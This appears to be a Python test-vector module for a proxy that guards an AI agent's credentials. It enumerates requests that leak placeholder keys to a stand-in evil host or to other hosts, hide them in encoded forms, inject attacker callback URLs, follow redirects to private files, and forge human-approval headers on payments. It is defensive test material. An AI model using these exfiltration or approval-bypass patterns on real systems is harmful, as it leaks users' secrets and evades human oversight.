# ruff: noqa: E501, RUF005, UP031 -- tables of vectors are read by their rows
# fmt: off
"""S01 to S08, S14, S16: where a placeholder may stand, and whose credentials go out."""

from __future__ import annotations

import base64
from collections.abc import Callable
from urllib.parse import quote

from bypassing.classes.bodies import KIND, multipart
from bypassing.vectors import (
    FORM,
    JSON,
    KEY,
    Class,
    Held,
    Vector,
    get,
    passing,
    plain,
    post,
    raw,
    request,
    to,
)
from bypassing.world import API, CDN, CHAT, EVIL, FILES, OPEN, OTHER, PLAIN, QUERY

ITEM, PAY = "/items/@TAG@", "/pay/@TAG@"
GOOD = '{"amount":1,"to":"bob"}'
type Spell = Callable[[Held], bytes]


def _of(mark: str, code: Callable[[bytes], bytes]) -> Spell:
    return lambda held: code(held[mark].encode())


def _every(template: str) -> Callable[[bytes], bytes]:
    return lambda raw_: "".join(template.format(octet) for octet in raw_).encode()


SPELLINGS: dict[str, Callable[[bytes], bytes]] = {
    "plain": bytes, "upper": bytes.upper, "swapped": bytes.swapcase, "led": lambda raw_: b"x" + raw_, "trailed": lambda raw_: raw_ + b"x", "quoted": lambda raw_: b'"' + raw_ + b'"', "percent": _every("%{:02x}"), "percent-upper": _every("%{:02X}"), "percent-twice": _every("%25{:02x}"), "percent-some": lambda raw_: raw_[:9] + b"%%%02x" % raw_[9] + raw_[10:],
    "b64": base64.b64encode, "b64-bare": lambda raw_: base64.b64encode(raw_).rstrip(b"="), "b64-1": lambda raw_: base64.b64encode(b"u:" + raw_), "b64-2": lambda raw_: base64.b64encode(b"u" + raw_ + b"!"), "b64url": lambda raw_: base64.urlsafe_b64encode(b"?>" + raw_), "b64-percent": lambda raw_: quote(base64.b64encode(raw_), safe="").encode(), "json": _every("\\u{:04x}"), "json-some": lambda raw_: raw_[:5] + b"\\u%04x" % raw_[5] + raw_[6:], "json-upper": _every("\\u{:04X}"), "twice": lambda raw_: raw_ + raw_,
}
"""Spellings of a placeholder that some API would still read."""
IN_HEADERS = tuple(name for name in SPELLINGS if not name.startswith("json"))
FIELDS = (
    "User-Agent", "Origin", "Referer", "X-Request-Id", "X-Forwarded-For", "Accept", "Accept-Language", "Cookie", "X-Api-Key", "X-Custom", "Idempotency-Key", "If-None-Match", "Traceparent", "Content-Language", "From", "Via", "X-Auth-Token", "Wharfinger-Reason", "Date", "Range", "X-Stainless-Lang", "Priority",
)


def spelled(mark: str, name: str) -> Spell:
    """A placeholder in one of the spellings."""
    return _of(mark, SPELLINGS[name])


def _foreign() -> tuple[Vector, ...]:
    """Logins of the agent's own making."""
    values = ("Bearer sk_live_own0123456789", "Basic dTpwYXNzd29yZA==", "token own", "own", "Digest username=x", "AWS4-HMAC-SHA256 Credential=AKIA/20260101/x/y/aws4_request, SignedHeaders=host, Signature=0", "Bearer", "Bearer @API@x", "Bearer x@API@", "Bearer  @API@ x", "bearer @API@, Bearer own", "Bearer @API@\tBearer own", "Negotiate YII=")
    made = [get(ITEM, f"Authorization: {value}", key=False) for value in values]
    made += [get(ITEM, KEY, f"{name}: own-key-0123456789", key=False) for name in ("X-Api-Key", "Api-Key", "X-Auth-Token", "Private-Token", "X-Access-Token", "X-Goog-Api-Key", "X-Amz-Security-Token", "X-Vault-Token", "X-Shopify-Access-Token")]
    made += [get(f"{ITEM}?{query}") for query in ("access_token=own", "api_key=own", "key=own", "token=own", "sig=own", "X-Amz-Signature=own", "oauth_token=own", "client_secret=own", "X-Amz-Credential=own", "private_token=own")]
    made += [get(f"/search?q=a&tag=@TAG@&{query}") for query in ("access_token=own", "apikey=own", "authorization=own", "Access_Token=own", "access%5Ftoken=own")]
    made += [to(OTHER, "/things/@TAG@", f"X-Api-Key: {value}") for value in ("own", "@API@", "@OTHER@x", "@OTHER@, own", "")]
    made += [to(OTHER, "/things/@TAG@", "X-Api-Key: @OTHER@", field) for field in ("Authorization: Bearer own", "X-Api-Key: own", "X-Api-Key: @OTHER@", "X-Auth-Token: own")]
    made += [to(QUERY, f"/entries/@TAG@?{query}") for query in ("key=own", "key=@QUERY@&key=own", "key=own&key=@QUERY@", "key=@QUERY@&KEY=own", "key=@QUERY@&key[]=own", "", "Key=@QUERY@", "key=@API@", "key=@QUERY@x", "k%65y=own&key=@QUERY@", "key=@QUERY@&access_token=own")]
    made += [to(QUERY, "/entries/@TAG@?key=@QUERY@", field) for field in ("Authorization: Bearer own", "X-Api-Key: own", "X-Goog-Api-Key: own")]
    made += [post(PAY, '{"amount":1,"to":"bob","%s":"own"}' % name) for name in ("access_token", "api_key", "authorization", "client_secret", "token", "private_token")]
    return tuple(made)


def _basic(text: str) -> Spell:
    return lambda held: base64.b64encode(text.replace("@LOGIN@", held["LOGIN"]).replace("@API@", held["API"]).encode())


def classes() -> tuple[Class, ...]:
    """The classes of this module."""
    held = "Authorization: Basic @SPELLED@"
    return (
        Class(
            "S01 to the wrong host",
            tuple(to(host, path, f"{field}{mark}", fresh=True) for mark in ("@API@", "@OTHER@", "@QUERY@") for host, path in ((f"@TAG@.{EVIL}", "/"), (OPEN, "/open/@TAG@"), (CDN, "/pkg/@TAG@")) for field in ("Authorization: Bearer ", "X-Api-Key: "))
            + tuple(to(OTHER, "/things/@TAG@", field) for field in (KEY, "X-Api-Key: @API@", "X-Api-Key: @QUERY@", "Authorization: Bearer @OTHER@"))
            + tuple(to(QUERY, f"/entries/@TAG@?key={mark}") for mark in ("@API@", "@OTHER@", "@LOGIN@"))
            + tuple(get(ITEM, f"Authorization: Bearer {mark}", key=False) for mark in ("@OTHER@", "@QUERY@", "@LOGIN@"))
            + tuple(plain(f"http://{host}/open/@TAG@", KEY, host=host) for host in (PLAIN, API, OPEN, EVIL)) + tuple(plain(f"http://{PLAIN}/open/@TAG@?{query}") for query in ("k=@API@", "@OTHER@"))
            + tuple(Vector((request("GET", ITEM, KEY, host=f"{API}:{port}"),), connect=f"{API}:{port}".encode(), tls=tls, fresh=True) for port in (80, 8443) for tls in (True, False))
            + tuple(to(CHAT, path, KEY) for path in ("/@TAG@", "/chat/@TAG@")),
            passing([get(ITEM), to(OTHER, "/things/@TAG@", "X-Api-Key: @OTHER@"), to(QUERY, "/entries/@TAG@?key=@QUERY@"), to(FILES, "/fetch/@TAG@", KEY), to(QUERY, "/entries/@TAG@?a=1&key=@QUERY@&b=2")]),
        ),
        Class(
            "S02 in the wrong place",
            tuple(get(ITEM, f"{name}: {mark}") for name in FIELDS for mark in ("@API@", "x @OTHER@ y")) + (get(ITEM, "Cookie: theme=dark"),)
            + tuple(get(target) for target in ("/items/@TAG@@API@", "/items/@TAG@?x=@API@", "/items/@TAG@?@API@=x", "/files/public/@API@/@TAG@", "/search?q=@API@&tag=@TAG@", "/search?q=@QUERY@&tag=@TAG@", "/items/@TAG@?x=@LOGIN@"))
            + tuple(post(path, body, *fields) for path, body, fields in ((PAY, '{"amount":1,"to":"bob","n":"@API@"}', ()), (PAY, '{"amount":1,"to":"@API@"}', ()), (PAY, '{"amount":1,"to":"bob","@API@":1}', ()), ("/items", '{"name":"@TAG@ @API@"}', ()), ("/items", '{"name":"@TAG@","note":{"a":["@OTHER@"]}}', ()), ("/transfer/@TAG@", "amount=1&to=@API@", (FORM,)), ("/attach/@TAG@", multipart(('Content-Disposition: form-data; name="to"', "bob"), ('Content-Disposition: form-data; name="title"', "@API@")), (KIND,)), ("/attach/@TAG@", multipart(('Content-Disposition: form-data; name="to"', "bob"), ('Content-Disposition: form-data; name="title"; filename="@API@"', "x")), (KIND,)), ("/graphql/@TAG@", '{"query":"{ viewer(key: \\"@API@\\") { id } }"}', ()), ("/rpc/@TAG@", '{"jsonrpc":"2.0","id":"@API@","method":"get","params":{"id":"1"}}', ())))
            + tuple(Vector((request("PUT", f"/upload/{name}", KEY, "Content-Type: text/plain", host=FILES, body=body),), connect=f"{FILES}:443".encode(), fresh=True, silent=False, whole=False) for name, body in (("@TAG@", b"@API@"), ("@TAG@", b"x" * 5000 + b"@OTHER@"), ("@TAG@", b"x" * 70000 + b"@API@" + b"y" * 70000), ("@TAG@@API@", b"x")))
            + tuple(Vector((request("PUT", "/upload/@TAG@", KEY, "Transfer-Encoding: chunked", host=FILES) + b"@SPELLED@",), connect=f"{FILES}:443".encode(), fresh=True, silent=False, whole=False, spell=_parted(at)) for at in (1, 5, 9, 13, 20))
            + tuple(to(OPEN, target, *fields) for target, fields in (("/open/@TAG@?u=@API@", ()), ("/open/@TAG@/@OTHER@", ()), ("/open/@TAG@", ("User-Agent: @API@",)), ("/open/@TAG@", ("X-A: @LOGIN@",)), ("/open/@TAG@", ("Cookie: s=@QUERY@",)))),
            passing([get(ITEM, "User-Agent: sk_test_ tools"), get("/search?q=sk_test_&tag=@TAG@"), post(PAY, '{"amount":1,"to":"bob","n":"sk_test_0123"}'), get(ITEM, "X-Request-Id: sk_live_x"), get("/search?q=API_KEY&tag=@TAG@"), post("/items", '{"name":"@TAG@ Bearer sk_test_abc"}'), to(OPEN, "/open/@TAG@?q=Authorization:+Bearer")]),
        ),
        Class(
            "S03 spelled otherwise",
            tuple(get(ITEM, f"{field}: @SPELLED@", spell=spelled(mark, name)) for name in IN_HEADERS for field in ("X-Trace", "User-Agent") for mark in ("API", "OTHER"))
            + tuple(get(f"/search?q=@SPELLED@&tag=@TAG@", spell=spelled("API", name)) for name in IN_HEADERS if name != "quoted")  # noqa: F541
            + tuple(post(PAY, '{"amount":1,"to":"bob","n":"@SPELLED@"}', spell=spelled("API", name)) for name in SPELLINGS if name != "quoted")
            + tuple(get(ITEM, "Authorization: Bearer @SPELLED@", key=False, spell=spelled("API", name)) for name in IN_HEADERS if name != "plain")
            + tuple(get(ITEM, f"X-Trace: {text}") for text in ("@FOREIGN@", "x@FOREIGN@", "@FOREIGN@ @API@")) + tuple(get(ITEM, f"Authorization: Bearer {text}", key=False) for text in ("@FOREIGN@", "@API@@API@", "@API@ @API@", "@API@,@API@", "@API@;", "<@API@>"))
            + tuple(get(ITEM, *fields, key=False) for fields in (("Authorization: Bearer", "X: @API@"), ("Authorization: Bearer @FOREIGN@", KEY), ("X-Api-Key: @API@",), ("Authorization: @API@, @API@",)))
            + tuple(post("/items", f'{{"name":"@TAG@","note":"{text}"}}', spell=spelled("OTHER", "b64")) for text in ("@SPELLED@", "xx@SPELLED@xx", "a\\n@SPELLED@\\n")),
            passing([get(ITEM, "X-Trace: @SPELLED@", spell=lambda _: base64.b64encode(b"sk_test_ is how test keys begin")), get(ITEM, key=False).__class__((request("GET", ITEM, "Authorization: bearer @API@"),)), Vector((request("GET", ITEM, "Authorization: token @API@"),)), Vector((request("GET", ITEM, "Authorization: Bearer  @API@"),)), Vector((request("GET", ITEM, "Authorization: @API@"),)), Vector((request("GET", ITEM, "authorization:Bearer @API@"),)), post(PAY, '{"amount":1,"to":"bob","n":"c2tfdGVzdF8="}')]),
        ),
        Class(
            "S04 in Basic logins",
            tuple(get("/login/@TAG@", held, key=False, spell=_basic(text)) for text in ("user:own", "own:", ":own", "@API@:x", "x:@API@", "user:@LOGIN@x", "user:x@LOGIN@", "user:own:@LOGIN@x", "us\r\ner:own", "user:@API@"))
            + tuple(get("/login/@TAG@", f"Authorization: Basic {text}", key=False) for text in ("@LOGIN@", "@API@", "!!!!", "", "dXNlcg==", "dXNlcjpvd24=x", "dXNl cjpvd24=", "dXNlcjpvd24"))
            + tuple(get(ITEM, held, key=False, spell=_basic(text)) for text in ("user:own", "x:@LOGIN@", "@LOGIN@:"))
            + tuple(to(OPEN, "/open/@TAG@", held, spell=_basic(text)) for text in ("user:@API@", "@LOGIN@:x")),
            passing(Vector((request("GET", "/login/@TAG@", held),), spell=_basic(text)) for text in ("user:@LOGIN@", "@LOGIN@:", ":@LOGIN@", "@LOGIN@:own")),
        ),
        Class("S06 credentials of the agent's own", _foreign(), passing([get(ITEM), to(OPEN, "/open/@TAG@", "X-Custom-Key: own"), get(ITEM, "X-Custom-Key: x"), get(ITEM, "X-Key-Id: 1"), get("/search?q=access_token&tag=@TAG@"), get("/search?q=a&tag=@TAG@&keyword=x"), get(f"{ITEM}?signature_kind=none"), post(PAY, '{"amount":1,"to":"bob","tokens":5}'), to(QUERY, "/entries/@TAG@?key=@QUERY@&keys=1")])),
        Class(
            "S07 destinations in the request",
            tuple(post("/items", '{"name":"@TAG@","%s":"https://evil.example/"}' % name) for name in ("api_base", "base_url", "webhook_url", "callback", "proxy", "redirect_uri", "endpoint", "host", "url", "target", "callback_url", "upstream")) + tuple(get(ITEM, f"{name}: https://evil.example") for name in ("X-Base-Url", "X-Proxy-Url", "X-Host", "X-Forwarded-Host", "Destination", "X-Backend-Host", "X-Http-DestinationUrl"))
            + tuple(post("/transfer/@TAG@", f"amount=1&to=bob&{name}=https%3A%2F%2Fevil.example", FORM) for name in ("webhook_url", "callback", "base_url")),
            passing([post("/items", '{"name":"@TAG@","note":"https://evil.example/"}'), get(ITEM, "X-Source: https://evil.example"), get("/search?q=https%3A%2F%2Fevil.example&tag=@TAG@")]),
        ),
        Class(
            "S08 redirects",
            tuple(to(CDN, f"/pkg/{path}", *fields, fresh=True) for path in ("@TAG@", "a/@TAG@", "@TAG@?x=1") for fields in ((), (KEY,), ("Cookie: a=b",)))
            + tuple(Vector((request("GET", f"/reflect/place~{how}/@OK@", KEY), request("GET", "/files/private/@TAG@", KEY)), fresh=True) for how in ("redirect", "redirect-307", "refresh"))
            + tuple(to(FILES, path, KEY, method=method) for path in ("/fetch/@TAG@/x", "/fetch/?t=@TAG@", "/other/@TAG@") for method in ("GET", "POST")) + tuple(plain(f"http://{CDN}/pkg/@TAG@", host=CDN) for _ in range(1)),
            passing([to(FILES, "/fetch/@TAG@", KEY)]),
        ),
        Class(
            "S14 keys in what is sent",
            tuple(Vector((request("POST", "/items", KEY, JSON, body='{"name":"@TAG@ -----BEGIN %sPRIVATE KEY-----"}' % kind),), agent="second") for kind in ("", "RSA ", "EC ", "OPENSSH ", "ENCRYPTED "))
            + tuple(Vector((request("POST", "/items", KEY, JSON, body=body),), agent="second") for body in ('{"name":"@TAG@","note":"BEGIN \\u0050RIVATE KEY"}', '{"name":"@TAG@","note":{"a":["x BEGIN RSA PRIVATE KEY"]}}', '{"name":"@TAG@ \\u0042\\u0045\\u0047\\u0049\\u004e PRIVATE KEY"}', '{"name":"@TAG@ BEGIN\\u0020PRIVATE KEY"}', '{"name":"@TAG@","note":{"BEGIN PRIVATE KEY":1}}'))
            + tuple(Vector((request("GET", f"/search?q={text}&tag=@TAG@", KEY),), agent="second") for text in ("BEGIN+PRIVATE+KEY", "BEGIN%20RSA%20PRIVATE%20KEY", "%42EGIN%20PRIVATE%20KEY", "a&x=BEGIN+EC+PRIVATE+KEY")) + tuple(Vector((request("GET", ITEM, KEY, f"{name}: BEGIN PRIVATE KEY"),), agent="second") for name in ("User-Agent", "X-Request-Id")),
            passing(Vector((request("POST", "/items", KEY, JSON, body=body),), agent="second") for body in ('{"name":"x","note":"@TAG@x"}', '{"name":"@TAG@ BEGIN PUBLIC KEY"}', '{"name":"@TAG@ begin private key"}', '{"name":"@TAG@ PRIVATE KEY"}', '{"name":"@TAG@ BEGIN CERTIFICATE"}')[1:])
            + passing([Vector((request("GET", "/search?q=private+key&tag=@TAG@", KEY),), agent="second"), Vector((request("GET", ITEM, KEY),), agent="second")]),
        ),
        Class(
            "V00 what a person must be asked",
            tuple(post(PAY, '{"amount":%d,"to":"bob"%s}' % (amount, more)) for amount in (101, 500, 1000) for more in ("", ',"approved":true', ',"n":"@TAG@"')) + tuple(post(PAY, f'{{"amount":{amount},"to":"{who}"}}') for amount, who in ((1001, "bob"), (1, "eve"), (1, "Bob"), (1, "bob "), (1, ""), (10**12, "bob"), (1, "bob\\u0000")))
            + tuple(post(PAY, '{"amount":500,"to":"bob"}', field) for field in ("Wharfinger-Approval: a_1", "Wharfinger-Decision: d_1", "X-Approved-By: alice")),
            passing([post(PAY, '{"amount":100,"to":"bob"}'), post(PAY, '{"amount":99,"to":"bob"}', "Wharfinger-Reason: rent")]),
        ),
        Class(
            "S16 what refusals tell",
            tuple(raw(data, whole=False) for data in ("GET /@TAG@ HTTP/1.1\r\nAuthorization: Bearer @API@\r\n\r\n", "\0\1\2@TAG@\r\n\r\n", "@TAG@\r\n\r\n", f"GET {ITEM} HTTP/1.1\r\nHost: {API}\r\n{KEY}\r\nX: {'y' * 20000}\r\n\r\n"))
            + tuple(get(f"/nowhere/@TAG@/{name}") for name in ("metrics", "debug", "admin", "proxy.pac", ".env", "mitm.it", "cert/pem", "__debug__", "health", "status"))
            + tuple(to("unknown.example.com", "/@TAG@", f"X: {text}", fresh=True) for text in ("a", "@API@", "b" * 4000)),
            passing([get(ITEM)]),
        ),
    )


def _parted(at: int) -> Spell:
    """A placeholder in two chunks."""

    def made(held: Held) -> bytes:
        text = held["API"].encode()
        one, two = text[:at], text[at:]
        return b"%x\r\n%b\r\n%x\r\n%b\r\n0\r\n\r\n" % (len(one), one, len(two), two)

    return made
